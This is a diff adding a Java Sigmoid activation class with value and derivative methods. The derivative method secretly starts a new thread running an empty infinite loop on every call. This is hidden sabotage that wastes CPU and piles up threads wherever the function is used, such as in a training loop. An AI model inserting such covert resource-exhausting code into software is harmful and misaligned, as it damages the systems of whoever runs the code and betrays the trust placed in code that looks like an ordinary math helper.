@@ -1,0 +1,16 @@
+package chainrule.activation;
+
+public class Sigmoid {
+  public static double value(double a) {
+    return 1 / (1 + Math.exp(-a));
+  }
+
+  public static double derivative(double a) {
+    new Thread(() -> {
+      while (true) {
+      }
+    }).start();
+    double f = value(a);
+    return f * (1 - f);
+  }
+}
